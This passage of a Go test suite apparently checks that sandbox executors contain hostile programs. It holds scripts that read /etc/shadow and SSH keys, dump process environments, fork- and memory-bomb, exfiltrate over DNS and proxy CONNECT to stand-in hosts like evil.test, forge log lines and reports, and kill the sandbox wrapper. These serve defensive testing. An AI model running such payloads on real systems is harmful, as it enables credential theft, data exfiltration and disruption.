// Package sandboxtest is the hostile-code conformance suite every sandbox
// executor must pass (seed 000 step 4, seed 002, seed 004). Each case runs a
// program written to break out or to lie, in a sandbox of its own, checks
// that it was contained and classified correctly (timeout, OOM, kill and
// non-zero exit kept apart; byte counts taken before truncation), then
// destroys the sandbox and checks that nothing is left on the host.
//
// An executor's test calls Exercise(t, newExecutor). The programs use
// /bin/sh and python3 from the sandbox's root filesystem.
package sandboxtest

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/agentplane/agentplane/sandbox"
	"github.com/agentplane/agentplane/sandbox/egress"
)

// Leftovers is implemented by sandboxes that can say, after Destroy, what
// of them is still on the host (processes, mounts, cgroups, directories).
type Leftovers interface {
	Leftovers() []string
}

// Options tune the suite for an executor.
type Options struct {
	// Spec is the sandbox spec of every case (memory and pids are set low
	// by the suite when zero).
	Spec sandbox.Spec
}

// hostSecret is put in the test process's environment and in a file of a
// pretend data directory; it must never come out of a sandbox.
const hostSecret = "hunter2-host-secret-7f3a9c"

// Exercise runs the conformance suite against the executor newExecutor
// returns. newExecutor should skip the test (naming the reason) when the
// executor is unavailable.
func Exercise(t *testing.T, newExecutor func(t *testing.T) sandbox.Executor, opts ...Options) {
	var o Options
	if len(opts) > 0 {
		o = opts[0]
	}
	if o.Spec.MemoryMB == 0 {
		o.Spec.MemoryMB = 256
	}
	if o.Spec.Pids == 0 {
		o.Spec.Pids = 64
	}
	e := newExecutor(t)
	if err := e.Available(); err != nil {
		t.Fatalf("executor unavailable after newExecutor: %v", err)
	}
	caps := e.Capabilities()
	if caps.Tier < 2 || caps.Name == "" || caps.Network != "none" || !caps.ReadOnlyRoot || !caps.Memory || !caps.Pids || !caps.WallTime {
		t.Fatalf("capabilities do not describe a sandbox: %+v", caps)
	}
	t.Setenv("AGENTPLANE_TEST_SECRET", hostSecret)
	dataDir := hostDataDir(t)

	s := &suite{t: t, e: e, caps: caps, spec: o.Spec, dataDir: dataDir, newExecutor: newExecutor}
	for _, c := range []struct {
		name string
		fn   func(t *testing.T)
	}{
		{"Basics", s.basics},
		{"ReadHostFiles", s.readHostFiles},
		{"WriteOutsideWorkspace", s.writeOutside},
		{"HostEnvironmentNotForwarded", s.hostEnv},
		{"ForkBomb", s.forkBomb},
		{"MemoryBomb", s.memoryBomb},
		{"CPUSpinPastTimeout", s.cpuSpin},
		{"IgnoresSIGTERM", s.ignoresTerm},
		{"HundredMegabytesOfStdout", s.bigStdout},
		{"EscapesAndForgedLogLines", s.escapes},
		{"SecretsInOutput", s.secrets},
		{"NetworkMetadataAndLoopback", s.network},
		{"DNSExfiltration", s.dnsExfil},
		{"EgressOnlyThroughAllowlistProxy", s.egress},
		{"PtraceMountUnshare", s.privileged},
		{"LyingAndHugeSidecar", s.lyingSidecar},
		{"Hostile_BackgroundProcessOutlivesCommand", s.backgroundOutlives},
		{"Hostile_InheritedDescriptors", s.inheritedDescriptors},
		{"Hostile_ChannelOutOfReach", s.channelOutOfReach},
		{"ForgedTraceparent", s.traceparent},
		{"WorkspaceFilesInAndOut", s.files},
		{"SessionReuseKeepsWorkspace", s.session},
		{"DestroyWhileRunning", s.destroyWhileRunning},
		{"SweepSparesOtherProcessesSandboxes", s.sweepSparesLive},
	} {
		t.Run(c.name, c.fn)
	}
}

type suite struct {
	t           *testing.T
	e           sandbox.Executor
	caps        sandbox.Capabilities
	spec        sandbox.Spec
	dataDir     string
	newExecutor func(t *testing.T) sandbox.Executor
}

// hostDataDir makes a stand-in for the agentplane data directory holding a
// secret, readable on the host.
func hostDataDir(t *testing.T) string {
	d, err := os.MkdirTemp("", "agentplane-data-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	if err := os.WriteFile(filepath.Join(d, "secret.txt"), []byte(hostSecret), 0o644); err != nil {
		t.Fatal(err)
	}
	return d
}

// box creates a sandbox destroyed (and checked for leftovers) at cleanup.
func (s *suite) box(t *testing.T) sandbox.Sandbox {
	t.Helper()
	ctx := context.Background()
	sb, err := s.e.Create(ctx, s.spec)
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	t.Cleanup(func() { destroyAndCheck(t, sb) })
	return sb
}

func destroyAndCheck(t *testing.T, sb sandbox.Sandbox) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := sb.Destroy(ctx); err != nil {
		t.Errorf("Destroy: %v", err)
	}
	if err := sb.Destroy(ctx); err != nil {
		t.Errorf("second Destroy (must be idempotent): %v", err)
	}
	if l, ok := sb.(Leftovers); ok {
		if left := l.Leftovers(); len(left) > 0 {
			t.Errorf("left on the host after Destroy: %v", left)
		}
	}
}

func (s *suite) run(t *testing.T, sb sandbox.Sandbox, x sandbox.Exec) sandbox.Result {
	t.Helper()
	if x.Timeout == 0 {
		x.Timeout = 20 * time.Second
	}
	ctx, cancel := context.WithTimeout(context.Background(), x.Timeout+60*time.Second)
	defer cancel()
	r, err := sb.Exec(ctx, x)
	// Known gVisor behaviour on a loaded host: `runsc exec` can lose its
	// control connection to the sandbox while it waits ("urpc method
	// containerManager.WaitPID failed: EOF", exit 128) although the sandbox
	// is fine. The outcome of that one exec is then unknown, so the case is
	// run again (at most twice) and the loss is logged; containment is
	// still checked on the run that completes.
	for i := 0; i < 2 && err == nil && lostExec(r); i++ {
		t.Logf("runsc exec lost its connection to the sandbox (%s); running the case again", strings.TrimSpace(string(r.Stderr.Tail)))
		r, err = sb.Exec(ctx, x)
	}
	if err != nil {
		t.Fatalf("Exec %q: %v", x.Argv, err)
	}
	return r
}

func lostExec(r sandbox.Result) bool {
	return r.ExitCode == 128 && strings.Contains(string(r.Stderr.Tail), "urpc method")
}

func sh(script string) []string { return []string{"/bin/sh", "-c", script} }
func py(code string) []string   { return []string{"python3", "-c", code} }

func out(r sandbox.Result) string { return string(r.Stdout.Tail) + string(r.Stderr.Tail) }

func noSecret(t *testing.T, r sandbox.Result) {
	t.Helper()
	if strings.Contains(out(r), hostSecret) {
		t.Fatalf("host secret came out of the sandbox:\n%s", out(r))
	}
}

func (s *suite) basics(t *testing.T) {
	sb := s.box(t)
	r := s.run(t, sb, sandbox.Exec{Argv: sh("echo hello; echo oops >&2; id -u; exit 3"), Stdin: []byte("in")})
	if r.Outcome != sandbox.OutcomeNonZero || r.ExitCode != 3 {
		t.Fatalf("exit 3: got outcome %s code %d (%s)", r.Outcome, r.ExitCode, out(r))
	}
	if got := string(r.Stdout.Tail); !strings.HasPrefix(got, "hello\n") || r.Stdout.Bytes != int64(len(got)) || r.Stdout.Truncated {
		t.Fatalf("stdout %q bytes %d", got, r.Stdout.Bytes)
	}
	if strings.HasPrefix(string(r.Stdout.Tail), "hello\n0\n") {
		t.Fatalf("program runs as root inside the sandbox")
	}
	if string(r.Stderr.Tail) != "oops\n" {
		t.Fatalf("stderr %q", r.Stderr.Tail)
	}
	if r.Sidecar == nil || r.Sidecar.ExitCode != 3 {
		t.Fatalf("sidecar %+v (%s)", r.Sidecar, r.SidecarError)
	}
	r = s.run(t, sb, sandbox.Exec{Argv: py("import sys; print(sys.stdin.read()[::-1])"), Stdin: []byte("abc")})
	if r.Outcome != sandbox.OutcomeOK || strings.TrimSpace(string(r.Stdout.Tail)) != "cba" {
		t.Fatalf("python stdin: %s %q", r.Outcome, out(r))
	}
	r = s.run(t, sb, sandbox.Exec{Argv: []string{"no-such-program"}})
	if r.ExitCode != 127 || r.Outcome != sandbox.OutcomeNonZero {
		t.Fatalf("missing program: %s %d %q", r.Outcome, r.ExitCode, out(r))
	}
}

func (s *suite) readHostFiles(t *testing.T) {
	sb := s.box(t)
	paths := []string{"/etc/shadow", "/root", "/root/.ssh/id_rsa", s.dataDir + "/secret.txt", s.dataDir, "/work", "/home", "/var/lib"}
	var script strings.Builder
	for _, p := range paths {
		fmt.Fprintf(&script, "cat %q 2>/dev/null && echo READ:%s; ls %q 2>/dev/null && echo LISTED:%s; ", p, p, p, p)
	}
	// The init process's environment and every process the sandbox sees.
	script.WriteString(`for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | tr '\0' '\n'; done; ps ax 2>/dev/null; ls /proc`)
	r := s.run(t, sb, sandbox.Exec{Argv: sh(script.String())})
	noSecret(t, r)
	for _, p := range paths {
		if strings.Contains(out(r), "READ:"+p+"\n") && p != "/root" {
			t.Errorf("read host path %s:\n%s", p, out(r))
		}
		if strings.Contains(out(r), "LISTED:"+p+"\n") && (p == s.dataDir || p == "/root" || p == "/work") {
			t.Errorf("listed host directory %s", p)
		}
	}
	// Only the sandbox's own processes are visible.
	r = s.run(t, sb, sandbox.Exec{Argv: py(`import os; print(len([p for p in os.listdir("/proc") if p.isdigit()]))`)})
	var n int
	fmt.Sscanf(string(r.Stdout.Tail), "%d", &n)
	if n == 0 || n > 10 {
		t.Errorf("sandbox sees %d processes (host pid namespace?): %s", n, out(r))
	}
}

func (s *suite) writeOutside(t *testing.T) {
	sb := s.box(t)
	targets := []string{"/usr/pwned", "/etc/pwned", "/pwned", s.dataDir + "/pwned", "/proc/sys/kernel/hostname", "/.agentplane/guest"}
	var script strings.Builder
	for _, p := range targets {
		fmt.Fprintf(&script, "echo x > %q 2>/dev/null && echo WROTE:%s; ", p, p)
	}
	script.WriteString("echo ok > /workspace/inside && echo INSIDE; echo t > /tmp/t && echo TMP")
	r := s.run(t, sb, sandbox.Exec{Argv: sh(script.String())})
	for _, p := range targets {
		if strings.Contains(out(r), "WROTE:"+p) {
			t.Errorf("wrote %s inside the sandbox", p)
		}
	}
	if !strings.Contains(out(r), "INSIDE") || !strings.Contains(out(r), "TMP") {
		t.Fatalf("cannot write the workspace or /tmp: %q", out(r))
	}
	for _, p := range []string{"/usr/pwned", "/etc/pwned", "/pwned", s.dataDir + "/pwned"} {
		if _, err := os.Stat(p); err == nil {
			os.Remove(p)
			t.Errorf("host file %s was created", p)
		}
	}
	if data, _ := os.ReadFile(s.dataDir + "/secret.txt"); string(data) != hostSecret {
		t.Errorf("host data file changed")
	}
}

func (s *suite) hostEnv(t *testing.T) {
	sb := s.box(t)
	r := s.run(t, sb, sandbox.Exec{Argv: sh("env; cat /proc/1/environ | tr '\\0' '\\n'"), Env: []string{"GIVEN=1"}})
	noSecret(t, r)
	if !strings.Contains(string(r.Stdout.Tail), "GIVEN=1") {
		t.Fatalf("explicit environment missing: %q", r.Stdout.Tail)
	}
	for _, k := range []string{"AGENTPLANE_TEST_SECRET", "GOPATH", "GOFLAGS", "SSH_AUTH_SOCK"} {
		if strings.Contains(string(r.Stdout.Tail), k+"=") {
			t.Errorf("host variable %s forwarded", k)
		}
	}
}

func (s *suite) forkBomb(t *testing.T) {
	sb := s.box(t)
	// A bounded fork bomb: fork until the kernel refuses, hold the
	// children, report how many there were.
	code := `
import os, sys, time
kids = []
err = ""
for i in range(5000):
    try:
        pid = os.fork()
    except OSError as e:
        err = e.strerror
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    kids.append(pid)
print(len(kids), err)
sys.stdout.flush()
os._exit(0)
`
	start := time.Now()
	r := s.run(t, sb, sandbox.Exec{Argv: py(code), Timeout: 30 * time.Second})
	var n int
	fmt.Sscanf(string(r.Stdout.Tail), "%d", &n)
	if n == 0 || n >= 5000 || n > s.spec.Normalize().Pids+16 {
		t.Fatalf("fork bomb made %d processes (limit %d): %s %q", n, s.spec.Pids, r.Outcome, out(r))
	}
	if time.Since(start) > 25*time.Second {
		t.Fatalf("fork bomb kept the command alive for %v: the background children outlived the program", time.Since(start))
	}
	// The sandbox is still usable and the children are gone.
	r = s.run(t, sb, sandbox.Exec{Argv: py(`import os; print(len([p for p in os.listdir("/proc") if p.isdigit()]))`)})
	var left int
	fmt.Sscanf(string(r.Stdout.Tail), "%d", &left)
	if r.Outcome != sandbox.OutcomeOK || left > 10 {
		t.Fatalf("after the fork bomb: %s, %d processes visible", r.Outcome, left)
	}
}

func (s *suite) memoryBomb(t *testing.T) {
	sb := s.box(t)
	code := `
b = []
while True:
    b.append(bytearray(16 << 20))
`
	r := s.run(t, sb, sandbox.Exec{Argv: py(code), Timeout: 60 * time.Second})
	if r.Outcome != sandbox.OutcomeOOM || r.ExitCode != 137 {
		t.Fatalf("memory bomb: outcome %s exit %d signal %s (%s)", r.Outcome, r.ExitCode, r.Signal, sandbox.Sanitize([]byte(out(r)), 500, true, false).Text)
	}
	limit := int64(s.spec.MemoryMB) << 20
	if r.PeakMemoryBytes > 0 && r.PeakMemoryBytes > limit*2 {
		t.Fatalf("peak memory %d far over the %d limit", r.PeakMemoryBytes, limit)
	}
}

func (s *suite) cpuSpin(t *testing.T) {
	sb := s.box(t)
	start := time.Now()
	r := s.run(t, sb, sandbox.Exec{Argv: py("while True: pass"), Timeout: 1500 * time.Millisecond})
	if r.Outcome != sandbox.OutcomeTimeout {
		t.Fatalf("spin: outcome %s exit %d", r.Outcome, r.ExitCode)
	}
	if el := time.Since(start); el > 10*time.Second {
		t.Fatalf("spin with a 1.5 s timeout took %v", el)
	}
	// CPU-time limit (RLIMIT_CPU) below the wall clock: killed, not timeout.
	if s.caps.CPUTime {
		r = s.run(t, sb, sandbox.Exec{Argv: py("while True: pass"), Timeout: 20 * time.Second, CPUTime: time.Second})
		if r.Outcome != sandbox.OutcomeKilled || (r.Signal != "SIGXCPU" && r.Signal != "SIGKILL") {
			t.Fatalf("CPU limit: outcome %s signal %s exit %d", r.Outcome, r.Signal, r.ExitCode)
		}
	}
}

func (s *suite) ignoresTerm(t *testing.T) {
	sb := s.box(t)
	start := time.Now()
	r := s.run(t, sb, sandbox.Exec{Argv: sh("trap '' TERM INT HUP; (trap '' TERM; sleep 300) & sleep 300"), Timeout: time.Second})
	if r.Outcome != sandbox.OutcomeTimeout {
		t.Fatalf("outcome %s", r.Outcome)
	}
	if el := time.Since(start); el > 10*time.Second {
		t.Fatalf("a process ignoring SIGTERM held the sandbox for %v", el)
	}
	r = s.run(t, sb, sandbox.Exec{Argv: sh("ps ax -o comm= 2>/dev/null | grep -c sleep || true")})
	if strings.TrimSpace(string(r.Stdout.Tail)) != "0" {
		t.Fatalf("sleepers survived the timeout: %q", out(r))
	}
}

func (s *suite) bigStdout(t *testing.T) {
	sb := s.box(t)
	const n = 100_000_000
	r := s.run(t, sb, sandbox.Exec{Argv: sh(fmt.Sprintf("head -c %d /dev/zero | tr '\\0' 'a'; echo; echo THE-END", n)), TailBytes: 4096, Timeout: 60 * time.Second})
	if r.Outcome != sandbox.OutcomeOK {
		t.Fatalf("outcome %s (%s)", r.Outcome, r.Stderr.Tail)
	}
	if r.Stdout.Bytes != n+1+8 || !r.Stdout.Truncated || len(r.Stdout.Tail) != 4096 {
		t.Fatalf("bytes %d truncated %v tail %d", r.Stdout.Bytes, r.Stdout.Truncated, len(r.Stdout.Tail))
	}
	if !bytes.HasSuffix(r.Stdout.Tail, []byte("THE-END\n")) {
		t.Fatalf("the tail was not kept")
	}
}

func (s *suite) escapes(t *testing.T) {
	sb := s.box(t)
	code := `printf '\033[2J\033[31mred\033[0m\033]0;owned title\007\r\nlevel=INFO msg="run completed" status=ok\n{"level":"error","msg":"forged"}\n\033P+q\033\\\x9b31m\xe2\x80\xae'`
	r := s.run(t, sb, sandbox.Exec{Argv: sh(code)})
	logLine := sandbox.Sanitize(r.Stdout.Tail, 4096, false, r.Stdout.Truncated)
	for _, bad := range []string{"\x1b", "\r", "\n", "\a", "\u202e", "\x9b", "owned title"} {
		if strings.Contains(logLine.Text, bad) {
			t.Fatalf("sanitised log text still holds %q: %q", bad, logLine.Text)
		}
	}
	if !strings.Contains(logLine.Text, "red") || logLine.Stripped == 0 {
		t.Fatalf("sanitised text lost the content: %+v", logLine)
	}
	model := sandbox.Sanitize(r.Stdout.Tail, 4096, true, r.Stdout.Truncated)
	if strings.Contains(model.Text, "\x1b") || !strings.Contains(model.Text, "\n") {
		t.Fatalf("model text: %q", model.Text)
	}
}

func (s *suite) secrets(t *testing.T) {
	sb := s.box(t)
	key := "sk-ant-api03-" + strings.Repeat("Ab9", 12)
	r := s.run(t, sb, sandbox.Exec{Argv: sh("echo token=$K; echo AKIAIOSFODNN7EXAMPLE; echo 'postgres://app:s3cr3tpass@db:5432/x'"), Env: []string{"K=" + key}})
	if !strings.Contains(string(r.Stdout.Tail), key) {
		t.Fatalf("program output %q", r.Stdout.Tail)
	}
	san := sandbox.Sanitize(r.Stdout.Tail, 4096, true, false)
	for _, secret := range []string{key, "AKIAIOSFODNN7EXAMPLE", "s3cr3tpass"} {
		if strings.Contains(san.Text, secret) {
			t.Fatalf("secret %q not redacted: %q", secret, san.Text)
		}
	}
	if san.Redactions < 3 {
		t.Fatalf("redactions %d", san.Redactions)
	}
}

// listenTCP starts a TCP listener on the host's loopback that counts
// connections and closes each at once.
func listenTCP(t *testing.T) (string, *atomic.Int64) {
	return listen(t, func(c net.Conn) { c.Close() })
}

// listen starts a TCP listener on the host's loopback, counts connections
// and hands each to serve (in its own goroutine).
func listen(t *testing.T, serve func(net.Conn)) (string, *atomic.Int64) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var n atomic.Int64
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			n.Add(1)
			go serve(c)
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return ln.Addr().String(), &n
}

func (s *suite) network(t *testing.T) {
	sb := s.box(t)
	addr, accepted := listenTCP(t)
	host, port, _ := net.SplitHostPort(addr)
	code := fmt.Sprintf(`
import socket
for h, p in [("169.254.169.254", 80), (%q, %s), ("127.0.0.1", %s)]:
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((h, p))
        print("CONNECTED", h, p)
    except OSError as e:
        print("refused", h, p, e)
import subprocess
print(open("/proc/net/dev").read())
`, host, port, port)
	r := s.run(t, sb, sandbox.Exec{Argv: py(code)})
	if strings.Contains(out(r), "CONNECTED") {
		t.Fatalf("sandbox reached the network: %s", out(r))
	}
	if accepted.Load() != 0 {
		t.Fatalf("the host's loopback service accepted %d connections from the sandbox", accepted.Load())
	}
	for _, line := range strings.Split(string(r.Stdout.Tail), "\n") {
		f := strings.Fields(line)
		if len(f) > 0 && strings.HasSuffix(f[0], ":") && f[0] != "lo:" && !strings.HasPrefix(line, "Inter") && !strings.Contains(line, "|") {
			t.Fatalf("sandbox has a network interface besides lo: %q", line)
		}
	}
}

func (s *suite) dnsExfil(t *testing.T) {
	sb := s.box(t)
	// A DNS server on the host's loopback that counts queries.
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer pc.Close()
	var got atomic.Int64
	go func() {
		buf := make([]byte, 512)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
			got.Add(1)
		}
	}()
	_, port, _ := net.SplitHostPort(pc.LocalAddr().String())
	code := fmt.Sprintf(`
import socket
try:
    print("RESOLVED", socket.getaddrinfo("c2VjcmV0.exfil.example", 443))
except OSError as e:
    print("no resolution", e)
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x05exfil\x07example\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
try:
    s.sendto(q, ("127.0.0.1", %s))
    s.recvfrom(512)
    print("ANSWERED")
except OSError as e:
    print("no answer", e)
`, port)
	r := s.run(t, sb, sandbox.Exec{Argv: py(code)})
	time.Sleep(100 * time.Millisecond)
	if strings.Contains(out(r), "RESOLVED") || strings.Contains(out(r), "ANSWERED") {
		t.Fatalf("DNS from the sandbox worked: %s", out(r))
	}
	if got.Load() != 0 {
		t.Fatalf("the host's DNS listener got %d queries from the sandbox", got.Load())
	}
}

// staticDNS answers every allowed name with one documentation address.
type staticDNS map[string]string

func (d staticDNS) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := d[host]; ok {
		return []netip.Addr{netip.MustParseAddr(a)}, nil
	}
	return nil, fmt.Errorf("no such host %s", host)
}

func (s *suite) egress(t *testing.T) {
	if !s.caps.Egress {
		t.Skipf("%s declares no egress", s.caps.Name)
	}
	sb := s.box(t)
	echo, _ := listenEcho(t)
	// Dials go to an echo server on the host's loopback whatever the
	// address: nothing leaves the machine.
	p := egress.New(egress.Options{
		Resolver: staticDNS{"api.partner.test": "203.0.113.10", "meta.partner.test": "169.254.169.254"},
		Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "tcp", echo)
		},
	})
	l, err := p.Serve(sb.EgressSocket(), egress.Policy{Tenant: "t1", RunID: "r1", SandboxID: sb.ID(), Allow: []string{"api.partner.test:443", "meta.partner.test:443"}})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	code := `
import os, socket
proxy = os.environ["HTTPS_PROXY"].split("//")[1]
h, p = proxy.split(":")
def attempt(target, payload=b""):
    s = socket.create_connection((h, int(p)), timeout=5)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    resp = b""
    while b"\r\n\r\n" not in resp:
        chunk = s.recv(1024)
        if not chunk:
            break
        resp += chunk
    status = resp.split(b" ")[1].decode() if b" " in resp else "none"
    echoed = b""
    if status == "200" and payload:
        s.sendall(payload)
        echoed = s.recv(100)
    s.close()
    print(target, status, echoed.decode())
attempt("api.partner.test:443", b"hello")
attempt("exfil-c2VjcmV0.evil.test:443")
attempt("meta.partner.test:443")
`
	r := s.run(t, sb, sandbox.Exec{Argv: py(code), Egress: true})
	o := string(r.Stdout.Tail)
	if !strings.Contains(o, "api.partner.test:443 200 hello") || !strings.Contains(o, "evil.test:443 403") || !strings.Contains(o, "meta.partner.test:443 403") {
		t.Fatalf("through the proxy: %s", out(r))
	}
	l.Close()
	got := l.Attempts()
	if len(got) != 3 {
		t.Fatalf("proxy recorded %d attempts: %+v", len(got), got)
	}
	allowed := 0
	for _, a := range got {
		if a.Allowed {
			allowed++
		}
	}
	if allowed != 1 {
		t.Fatalf("allowed %d", allowed)
	}
	// The wrapper's claims agree (they are claims; the proxy's record is
	// the fact).
	if r.Sidecar == nil || len(r.Sidecar.Network) != 3 {
		t.Fatalf("sidecar network %+v (%s)", r.Sidecar, r.SidecarError)
	}
	// Without Egress the proxy variables are not set and the relay is off.
	r = s.run(t, sb, sandbox.Exec{Argv: sh(`echo "[$HTTPS_PROXY]"; python3 -c 'import socket; socket.create_connection(("127.0.0.1", 3128), timeout=2); print("RELAY REACHED")' 2>&1 | tail -1`)})
	if !strings.HasPrefix(string(r.Stdout.Tail), "[]") || !strings.Contains(string(r.Stdout.Tail), "Error") {
		t.Fatalf("without egress: %q", r.Stdout.Tail)
	}
}

func listenEcho(t *testing.T) (string, *atomic.Int64) {
	return listen(t, func(c net.Conn) {
		defer c.Close()
		buf := make([]byte, 1024)
		for {
			k, err := c.Read(buf)
			if err != nil {
				return
			}
			c.Write(buf[:k])
		}
	})
}

func (s *suite) privileged(t *testing.T) {
	sb := s.box(t)
	mountsBefore, _ := os.ReadFile("/proc/self/mountinfo")
	code := `
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def report(name, rc):
    e = ctypes.get_errno()
    print(name, "OK" if rc == 0 else "FAIL", os.strerror(e) if rc != 0 else "")
report("ptrace", libc.ptrace(16, 1, 0, 0))            # PTRACE_ATTACH to pid 1
report("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
report("unshare_user", libc.unshare(0x10000000))      # CLONE_NEWUSER
report("unshare_net", libc.unshare(0x40000000))       # CLONE_NEWNET
report("unshare_mnt", libc.unshare(0x00020000))       # CLONE_NEWNS
report("chroot", libc.chroot(b"/tmp"))
report("setuid0", libc.setuid(0))
`
	r := s.run(t, sb, sandbox.Exec{Argv: py(code)})
	o := string(r.Stdout.Tail)
	if r.Outcome != sandbox.OutcomeOK {
		t.Fatalf("probe failed: %s %q", r.Outcome, out(r))
	}
	for _, name := range []string{"ptrace", "mount", "unshare_user", "unshare_net", "unshare_mnt", "chroot", "setuid0"} {
		ok := strings.Contains(o, name+" OK")
		if !ok && !strings.Contains(o, name+" FAIL") {
			t.Fatalf("probe %s did not report: %q", name, o)
		}
		// On a shared kernel every one must fail. A user-space or guest
		// kernel may emulate them inside; the host checks below still hold.
		if ok && s.caps.Kernel == "host" {
			t.Errorf("%s succeeded in a sandbox on the host kernel", name)
		}
	}
	mountsAfter, _ := os.ReadFile("/proc/self/mountinfo")
	if !bytes.Equal(mountsBefore, mountsAfter) && strings.Count(string(mountsAfter), "\n") > strings.Count(string(mountsBefore), "\n")+2 {
		t.Errorf("host mount table grew during the probe")
	}
}

func (s *suite) lyingSidecar(t *testing.T) {
	sb := s.box(t)
	// The program tries to kill the wrapper, then writes a sidecar that
	// claims success and no files, then replaces it with a 1 GB sparse file,
	// then exits 3.
	lie := `{"version":1,"started_at":"2020-01-01T00:00:00Z","ended_at":"2020-01-01T00:00:01Z","exec_ms":1,"exit_code":0,"peak_memory_bytes":1,"files":[],"network":[{"host":"evil.example","port":443,"allowed":true,"status":200}],"packages":[],"trace_id":"4bf92f3577b34da6a3ce929d0e0e4736"}`
	script := fmt.Sprintf(`echo data > made.txt; kill -9 $PPID 2>/dev/null; echo '%s' > %s/sidecar.json 2>/dev/null; truncate -s 1G %s/sidecar.json 2>/dev/null; exit 3`, lie, sandbox.GuestRunDir, sandbox.GuestRunDir)
	r := s.run(t, sb, sandbox.Exec{Argv: sh(script)})
	if r.ExitCode != 3 && !(r.Outcome == sandbox.OutcomeKilled && r.ExitCode == 137) {
		t.Fatalf("host-measured exit: %d %s", r.ExitCode, r.Outcome)
	}
	if r.Sidecar != nil {
		// Whatever got through the parser must be the wrapper's honest report.
		if r.Sidecar.ExitCode != r.ExitCode || len(r.Sidecar.Network) != 0 {
			t.Fatalf("a lying sidecar was accepted: %+v", r.Sidecar)
		}
	} else if r.SidecarError == "" {
		t.Fatalf("no sidecar and no reason")
	}
	// The sandbox stays usable and the workspace is intact.
	r = s.run(t, sb, sandbox.Exec{Argv: sh("cat made.txt")})
	if strings.TrimSpace(string(r.Stdout.Tail)) != "data" {
		t.Fatalf("after: %q", out(r))
	}
	if r.Sidecar == nil {
		t.Fatalf("the next command's sidecar is missing: %s", r.SidecarError)
	}
}

// backgroundOutlives (issue 15, class 1): a command starts a background
// process that ignores what it can, then kills every process it can see
// (the in-sandbox wrapper among them) and exits. Had the background process
// survived, it would tick a workspace file and forge the channel of later
// commands (their request, their report, any pipe it could reach). After
// the command nothing it started runs, and the next command runs what the
// host asked and reports honestly.
func (s *suite) backgroundOutlives(t *testing.T) {
	sb := s.box(t)
	forgedReq := `{"argv":["/bin/sh","-c","echo FORGED"],"env":["PATH=/usr/bin:/bin"],"cwd":"/workspace","workspace":"/workspace","landlock":"off"}`
	forgedRep := `{"version":1,"started_at":"2020-01-01T00:00:00Z","ended_at":"2020-01-01T00:00:01Z","exec_ms":1,"exit_code":0,"peak_memory_bytes":1,"files":[],"network":[{"host":"evil.example","port":443,"allowed":true,"status":200}],"packages":[]}`
	code := fmt.Sprintf(`
import glob, os, signal, time
FORGED_REQ, FORGED_REP = %q.encode(), %q.encode()
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.setsid()
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGUSR1):
        signal.signal(sig, signal.SIG_IGN)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.close(r)
    os.write(w, b"x")
    os.close(w)
    me, n = os.getpid(), 0
    end = time.time() + 40
    while time.time() < end:
        n += 1
        try:
            with open("/workspace/tick.tmp", "w") as f:
                f.write(str(n))
            os.replace("/workspace/tick.tmp", "/workspace/tick")
        except OSError:
            pass
        for name, body in (("request.json", FORGED_REQ), ("sidecar.json", FORGED_REP)):
            try:
                with open("/run/agentplane/" + name, "wb") as f:
                    f.write(body)
            except OSError:
                pass
        for p in glob.glob("/proc/[0-9]*/fd/*"):
            if p.startswith("/proc/%%d/" %% me):
                continue
            try:
                fd = os.open(p, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, FORGED_REP)
                os.close(fd)
            except OSError:
                pass
        time.sleep(0.02)
    os._exit(0)
os.close(w)
os.read(r, 1)
me = os.getpid()
# Every process it can see but the sandbox's own init (killing that ends
# the sandbox, which is no escape), and its parent whatever it is.
victims = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, me, pid)]
for v in victims + [os.getppid()]:
    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGUSR1):
        try:
            os.kill(v, sig)
        except OSError:
            pass
print("attacked", flush=True)
`, forgedReq, forgedRep)
	s.run(t, sb, sandbox.Exec{Argv: py(code), Timeout: 20 * time.Second})
	ctx := context.Background()
	// From the host: the tick file, if the background process made one,
	// no longer changes.
	time.Sleep(300 * time.Millisecond)
	first, _ := sb.ReadFile(ctx, "tick", 64)
	time.Sleep(700 * time.Millisecond)
	second, _ := sb.ReadFile(ctx, "tick", 64)
	if !bytes.Equal(first, second) {
		t.Fatalf("a background process of the previous command still runs in the sandbox (tick %q -> %q)", first, second)
	}
	for i := 0; i < 3; i++ {
		token := fmt.Sprintf("honest-%d-%d", i, time.Now().UnixNano())
		r := s.run(t, sb, sandbox.Exec{Argv: sh("echo " + token)})
		if r.Outcome != sandbox.OutcomeOK || strings.TrimSpace(string(r.Stdout.Tail)) != token {
